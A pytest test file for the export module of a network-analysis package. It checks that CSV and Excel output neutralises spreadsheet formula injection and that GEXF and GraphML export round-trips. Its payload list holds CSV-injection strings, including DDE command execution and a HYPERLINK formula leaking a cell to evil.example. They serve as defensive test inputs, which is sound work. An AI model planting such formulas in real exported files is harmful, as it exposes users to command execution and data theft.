"""Tests of alliances.export: formula-safe tables, Excel workbooks, GEXF and GraphML."""

from __future__ import annotations

import zipfile

import networkx as nx
import numpy as np
import pandas as pd
import pytest

import alliances
from alliances.export import (
    DANGEROUS_PREFIXES,
    exportable_graph,
    format_cell,
    neutralize_cell,
    parse_evidence,
    restore_cell,
    safe_frame,
    split_cell,
    write_gexf,
    write_graphml,
    write_table,
    write_workbook,
)
from alliances.model import Evidence

# Payloads from the OWASP CSV-injection page and common variants.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "+33 6 12 34 56 78",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tfoo",
    "\r=1+1",
    "\rfoo",
    "\0=1+1",
    "\0foo",
    "  =1+1",
    "\n=1+1",
    "\uff1d1+1",  # fullwidth =
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",  # already quoted: must get one more quote to stay reversible
    "''+x",
]
HARMLESS = ["Mairie d'Antony", "l'eau", "Tiers-Lieu", "a=b", "x+y", "  Asso", "", "NA", "007",
            "-12", "-3,5", "+4.5e-3", "'quoted'", "Σ", "«citation»"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_dangerous_text_is_prefixed_and_restorable(text):
    out = neutralize_cell(text)
    assert out == "'" + text
    assert restore_cell(out) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_unchanged(text):
    assert neutralize_cell(text) == text
    assert restore_cell(text) == text


def test_every_listed_prefix_is_caught():
    for prefix in DANGEROUS_PREFIXES:
        assert neutralize_cell(prefix + "x") == "'" + prefix + "x", repr(prefix)


def test_neutralize_is_a_bijection_on_tricky_strings():
    # restore(neutralize(t)) == t for every t, including texts made of quotes and prefixes
    alphabet = ["'", "=", "-", "1", " ", "\t", "a"]
    import itertools

    for n in range(1, 5):
        for chars in itertools.product(alphabet, repeat=n):
            t = "".join(chars)
            assert restore_cell(neutralize_cell(t)) == t, repr(t)


def test_format_cell_values():
    assert format_cell(np.int64(-3)) == -3
    assert isinstance(format_cell(np.int64(-3)), int)
    assert format_cell(-2.5) == -2.5
    assert format_cell(-2.5, decimal=",") == "-2,5"
    assert format_cell(True) is True
    assert format_cell(None) is None
    assert format_cell(float("nan")) is None
    assert format_cell(("=a", "b")) == "'=a | b"
    assert format_cell(["x"]) == "x"
    assert format_cell(frozenset({"b", "a"})) == "a | b"
    assert format_cell({"b": 1, "a": "é"}) == '{"a": "é", "b": 1}'
    assert format_cell(Evidence("s.csv", 3, "on se comprend")) == "s.csv:3 «on se comprend»"
    assert format_cell(Evidence("-s.csv")) == "'-s.csv"
    assert format_cell("=x", safe=False) == "=x"


def test_evidence_and_sequences_round_trip():
    evs = (Evidence("survey.csv", 12), Evidence("C:/data/entretiens.csv", 3, "ils m'ont dit: « oui »"),
           Evidence("notes.csv"))
    text = format_cell(evs)
    assert text == "survey.csv:12 | C:/data/entretiens.csv:3 «ils m'ont dit: « oui »» | notes.csv"
    assert tuple(parse_evidence(part) for part in split_cell(restore_cell(text))) == evs


def _hostile_frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "label": PAYLOADS,
            "harmless": (HARMLESS * 3)[:n],
            "score": np.linspace(-2.5, 3.0, n),  # negative numbers in a numeric column
            "count": np.arange(-5, n - 5, dtype=np.int64),
            "mixed": np.array([-1.5, "=2", 3, None] * (n // 4) + [-1.5] * (n % 4), dtype=object),
            "sectors": [("public", "-company")] * n,
        },
        index=pd.Index([f"a{i}" for i in range(n)], name="id"),
    )


def test_safe_frame_leaves_numbers_and_input_alone():
    df = _hostile_frame()
    before = df.copy(deep=True)
    out = safe_frame(df)
    pd.testing.assert_frame_equal(df, before)  # input untouched
    assert out["score"].tolist() == df["score"].tolist()
    assert out["score"].dtype == np.float64
    assert out["count"].tolist() == df["count"].tolist()
    assert out.loc["a0", "mixed"] == -1.5
    assert out.loc["a1", "mixed"] == "'=2"
    assert out.loc["a0", "sectors"] == "public | -company"
    assert all(v.startswith("'") for v in out["label"])


def test_safe_frame_headers_and_index_are_neutralised():
    df = pd.DataFrame({"=evil()": [1]}, index=pd.Index(["@x"], name="-id"))
    out = safe_frame(df)
    assert list(out.columns) == ["'=evil()"]
    assert list(out.index) == ["'@x"]
    assert out.index.name == "'-id"


def _read_back(path, sep=",", encoding="utf-8"):
    return pd.read_csv(path, sep=sep, dtype=str, keep_default_na=False, encoding=encoding,
                       index_col=0)


@pytest.mark.parametrize(("sep", "bom", "decimal"), [(",", False, "."), (";", True, ",")])
def test_write_table_round_trip(tmp_path, sep, bom, decimal):
    df = _hostile_frame()
    path = write_table(df, tmp_path / "t.csv", sep=sep, bom=bom, decimal=decimal)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == bom
    back = _read_back(path, sep=sep, encoding="utf-8-sig")
    # every cell that a spreadsheet would evaluate starts with a quote
    for value in back["label"]:
        assert value.startswith("'")
    # restoring gives back exactly the original text
    assert [restore_cell(v) for v in back["label"]] == PAYLOADS
    assert [restore_cell(v) for v in back["harmless"]] == df["harmless"].tolist()
    # numbers: written as numbers with the decimal mark asked, negative signs kept
    scores = [float(v.replace(decimal, ".")) for v in back["score"]]
    assert scores == df["score"].tolist()
    assert back["count"].tolist() == [str(v) for v in df["count"]]
    assert back.loc["a0", "score"] == "-2" + decimal + "5"
    assert back.loc["a0", "mixed"] == "-1" + decimal + "5"
    assert [split_cell(restore_cell(v)) for v in back["sectors"]] == [["public", "-company"]] * len(df)


def test_write_table_no_cell_starts_with_a_formula_character(tmp_path):
    import csv

    path = write_table(_hostile_frame(), tmp_path / "t.csv", sep=";")
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh, delimiter=";"):
            for cell in row:
                stripped = cell.lstrip(" \n")
                if stripped[:1] and stripped[0] in DANGEROUS_PREFIXES:
                    # only plain numbers may start with a sign
                    float(cell.replace(",", "."))


def test_write_table_unsafe_writes_raw(tmp_path):
    df = pd.DataFrame({"x": ["=1+1"]})
    path = write_table(df, tmp_path / "t.csv", safe=False, index=False)
    assert path.read_bytes() == b"x\r\n=1+1\r\n"


def test_write_table_errors(tmp_path):
    df = pd.DataFrame({"x": ["€ 😀"]})
    with pytest.raises(ValueError, match="separator"):
        write_table(df, tmp_path / "t.csv", sep=",", decimal=",")
    with pytest.raises(ValueError, match="UTF-8"):
        write_table(df, tmp_path / "t.csv", bom=True, encoding="cp1252")
    with pytest.raises(ValueError, match="cannot be written in 'cp1252'"):
        write_table(df, tmp_path / "t.csv", encoding="cp1252")
    ok = write_table(pd.DataFrame({"x": ["é œ €"]}), tmp_path / "c.csv", encoding="cp1252", sep=";")
    assert ok.read_bytes() == ";x\r\n0;é œ €\r\n".encode("cp1252")


def test_round_trip_through_read_actors(tmp_path):
    names = ["=Mairie", "-Tiers Lieu", "@Asso Vélo", "+Plus", "Collectif NA", "Ferme 007"]
    df = pd.DataFrame({
        "name": names,
        "sector": [("public",), ("association", "research"), ("association",), ("company",),
                   ("citizen",), ("company",)],
        "kind": ["organisation"] * 6,
        "territory": ["NA", "007", "-Sud", "Antony", None, "Sceaux"],
        "themes": [("eau", "-énergie"), (), ("vélo",), ("=x",), ("mobilité",), ()],
    })
    path = write_table(df, tmp_path / "actors.csv", sep=";", bom=True, index=False)
    reg = alliances.read_actors(path)
    assert list(reg.index) == [alliances.model.actor_id(n) for n in names]
    assert reg["sectors"].tolist() == df["sector"].tolist()
    # the reader removes the protective quote: the text comes back exactly as written
    assert reg["label"].tolist() == names
    assert reg["themes"].tolist() == df["themes"].tolist()
    assert reg.loc["ferme-007", "territory"] == "Sceaux"
    assert reg.loc["mairie", "territory"] == "NA"
    assert reg.loc["tiers-lieu", "territory"] == "007"


def test_read_actors_undoes_the_protective_quote(tmp_path):
    df = pd.DataFrame({"name": ["=Mairie", "-Tiers Lieu"], "territory": ["-Sud", "Nord"]})
    path = write_table(df, tmp_path / "actors.csv", index=False)
    reg = alliances.read_actors(path)
    assert reg["label"].tolist() == ["=Mairie", "-Tiers Lieu"]
    assert reg["territory"].tolist() == ["-Sud", "Nord"]


# --------------------------------------------------------------------------- Excel

def test_write_workbook(tmp_path):
    import openpyxl

    df = _hostile_frame()
    tables = {"acteurs: tous [v1]/2": df, "acteurs: tous [v1]/3": df.head(2),
              "x" * 40: df.head(1), "'History'": df.head(1)}
    path = write_workbook(tables, tmp_path / "t.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["acteurs_ tous _v1__2", "acteurs_ tous _v1__3", "x" * 31, "History_"]
    ws = wb["acteurs_ tous _v1__2"]
    header = [c.value for c in ws[1]]
    assert header == ["id", "label", "harmless", "score", "count", "mixed", "sectors"]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    labels = [ws.cell(row=r, column=2) for r in range(2, len(df) + 2)]
    # NUL cannot be stored in XML: it becomes U+FFFD; XML reads a CR as LF
    expected = [p.replace("\0", "\ufffd").replace("\r", "\n") for p in PAYLOADS]
    assert [c.value for c in labels] == expected
    assert all(c.data_type == "s" for c in labels)
    # Excel's quote-prefix flag on every formula-like text (NUL ones are no longer formula-like)
    assert [c.quotePrefix for c in labels] == [not p.startswith("\0") for p in PAYLOADS]
    # openpyxl writes 16 significant digits: equal to the last unit or so
    scores = [ws.cell(row=r, column=4).value for r in range(2, len(df) + 2)]
    assert scores == pytest.approx(df["score"].tolist(), rel=1e-15)
    assert scores[0] == -2.5
    assert ws.cell(row=2, column=5).value == -5
    assert ws.cell(row=2, column=7).value == "public | -company"
    assert ws.cell(row=3, column=3).quotePrefix is False  # harmless text: no flag
    # no formula in the underlying XML
    with zipfile.ZipFile(path) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    # pandas reads back the original values
    back = pd.read_excel(path, sheet_name="acteurs_ tous _v1__2", index_col=0, dtype=str,
                         keep_default_na=False)
    assert back["label"].tolist() == expected


def test_write_workbook_unsafe_and_limits(tmp_path):
    import openpyxl

    path = write_workbook({"s": pd.DataFrame({"x": ["=1+1"]})}, tmp_path / "u.xlsx", safe=False,
                          index=False)
    assert openpyxl.load_workbook(path)["s"]["A2"].data_type == "f"
    big = pd.DataFrame({"x": ["a" * 40_000]})
    with pytest.warns(UserWarning, match="32767"):
        path = write_workbook({"s": big}, tmp_path / "b.xlsx", index=False)
    assert len(openpyxl.load_workbook(path)["s"]["A2"].value) == 32_767


# --------------------------------------------------------------------------- graphs

def _actor_graph() -> nx.MultiDiGraph:
    G = nx.MultiDiGraph(name="Test", import_report=object())
    G.add_node("mairie", label="Mairie d'Antony", sector="public", sectors=("public",),
               kind="organisation", territory=None, themes=("eau", "énergie"), respondent=True,
               degree=np.int64(3), score=np.float64(0.25))
    G.add_node("fabrique", label="Tiers-Lieu <La Fabrique>", sector="association",
               sectors=("association", "research"), kind="organisation", territory="Antony",
               themes=(), respondent=False, degree=2, score=1)
    G.add_node("marie", label="Marie D.", sector=None, sectors=[], kind="person",
               territory="Sceaux", themes=["vélo"], respondent=True, degree=1, score=None,
               start="2020")
    ev = (Evidence("survey.csv", 3), Evidence("interviews.csv", 7, "on se comprend"))
    G.add_edge("mairie", "fabrique", key="collaboration", relation="collaboration", weight=3.0,
               trust=None, sign=1, origin="survey", evidence=ev, type="formal")
    G.add_edge("mairie", "fabrique", key="trust", relation="trust", weight=1.0, trust=0.75,
               sign=1, origin="survey", evidence=(ev[0],))
    G.add_edge("fabrique", "mairie", key="conflict", relation="conflict", weight=np.float64(2),
               trust=None, sign=-1, origin="interview", evidence=(), events=["atelier\x01 1"])
    G.add_edge("marie", "fabrique", key="co-participation", relation="co-participation",
               weight=1, trust=np.float32(0.5), sign=1, origin="affiliation",
               evidence=(), events=("atelier 1", "forum"))
    return G


def test_exportable_graph_types():
    G = _actor_graph()
    H = exportable_graph(G)
    assert H.nodes["mairie"]["sectors"] == "public"
    assert H.nodes["fabrique"]["sectors"] == "association | research"
    assert "territory" not in H.nodes["mairie"]  # None left out
    assert "sectors" not in H.nodes["marie"] or H.nodes["marie"]["sectors"] == ""
    assert H.nodes["mairie"]["degree"] == 3 and type(H.nodes["mairie"]["degree"]) is int
    # ints and floats mixed in one attribute: floats everywhere
    assert H.nodes["fabrique"]["score"] == 1.0 and type(H.nodes["fabrique"]["score"]) is float
    e = H.edges["mairie", "fabrique", "collaboration"]
    assert e["evidence"] == "survey.csv:3 | interviews.csv:7 «on se comprend»"
    assert "trust" not in e
    assert H.edges["marie", "fabrique", "co-participation"]["trust"] == 0.5
    assert H.edges["fabrique", "mairie", "conflict"]["events"] == "atelier\ufffd 1"
    assert H.graph == {"name": "Test"}
    assert "import_report" in G.graph  # input untouched
    assert G.nodes["fabrique"]["sectors"] == ("association", "research")
    J = exportable_graph(G, sequences="json")
    assert J.nodes["fabrique"]["sectors"] == '["association", "research"]'
    assert J.edges["mairie", "fabrique", "trust"]["evidence"] == \
        '[{"file": "survey.csv", "line": 3, "quote": null}]'


def test_networkx_writers_reject_the_raw_graph(tmp_path):
    # the reason these functions exist
    with pytest.raises((nx.NetworkXError, TypeError, KeyError, ValueError)):
        nx.write_graphml(_actor_graph(), tmp_path / "raw.graphml")
    with pytest.raises((nx.NetworkXError, TypeError, KeyError, ValueError)):
        nx.write_gexf(_actor_graph(), tmp_path / "raw.gexf")


def test_write_graphml_round_trip(tmp_path):
    G = _actor_graph()
    path = write_graphml(G, tmp_path / "g.graphml")
    H = nx.read_graphml(path, force_multigraph=True)
    assert isinstance(H, nx.MultiDiGraph)
    assert H.number_of_nodes() == 3 and H.number_of_edges() == 4
    assert sorted(H.edges(keys=True)) == sorted(G.edges(keys=True))
    assert H.nodes["fabrique"]["label"] == "Tiers-Lieu <La Fabrique>"
    assert H.nodes["fabrique"]["sector"] == "association"
    assert H.nodes["fabrique"]["sectors"] == "association | research"
    assert H.nodes["mairie"]["respondent"] is True
    assert H.nodes["mairie"]["degree"] == 3
    assert H.nodes["marie"]["start"] == "2020"
    assert H.edges["mairie", "fabrique", "trust"]["trust"] == 0.75
    assert H.edges["fabrique", "mairie", "conflict"]["sign"] == -1
    assert H.edges["fabrique", "mairie", "conflict"]["weight"] == 2.0
    assert "trust" not in H.edges["mairie", "fabrique", "collaboration"]
    assert H.edges["mairie", "fabrique", "collaboration"]["evidence"] == \
        "survey.csv:3 | interviews.csv:7 «on se comprend»"
    assert H.graph["name"] == "Test"


def test_write_gexf_round_trip(tmp_path):
    G = _actor_graph()
    path = write_gexf(G, tmp_path / "g.gexf", date="2026-01-01")
    H = nx.read_gexf(path)
    assert isinstance(H, nx.MultiDiGraph)  # parallel ties seen, so a multigraph
    assert H.number_of_nodes() == 3 and H.number_of_edges() == 4
    assert sorted(H.edges(keys=True)) == sorted(G.edges(keys=True))
    assert H.nodes["fabrique"]["label"] == "Tiers-Lieu <La Fabrique>"
    assert H.nodes["fabrique"]["sector"] == "association"
    assert H.nodes["fabrique"]["sectors"] == "association | research"
    assert H.nodes["marie"]["start_"] == "2020"  # reserved GEXF name renamed
    e = H.edges["mairie", "fabrique", "collaboration"]
    assert e["weight"] == 3.0
    assert e["label"] == "collaboration"
    assert e["type_"] == "formal"
    assert e["evidence"] == "survey.csv:3 | interviews.csv:7 «on se comprend»"
    assert H.edges["mairie", "fabrique", "trust"]["trust"] == 0.75
    assert H.edges["marie", "fabrique", "co-participation"]["events"] == "atelier 1 | forum"
    # byte-identical output for the same graph and date
    again = write_gexf(G, tmp_path / "g2.gexf", date="2026-01-01")
    assert path.read_bytes() == again.read_bytes()
    assert b'lastmodifieddate="2026-01-01"' in path.read_bytes()


def test_graph_exports_handle_simple_and_empty_graphs(tmp_path):
    for G in (nx.Graph(), nx.DiGraph([(1, 2)]), nx.path_graph(3)):
        p1 = write_graphml(G, tmp_path / "a.graphml")
        p2 = write_gexf(G, tmp_path / "a.gexf", date="2026-01-01")
        assert nx.read_graphml(p1).number_of_edges() == G.number_of_edges()
        assert nx.read_gexf(p2).number_of_nodes() == G.number_of_nodes()


def test_distinct_nodes_with_same_text_id_are_refused():
    G = nx.Graph()
    G.add_nodes_from([1, "1"])
    with pytest.raises(ValueError, match="both written '1'"):
        exportable_graph(G)
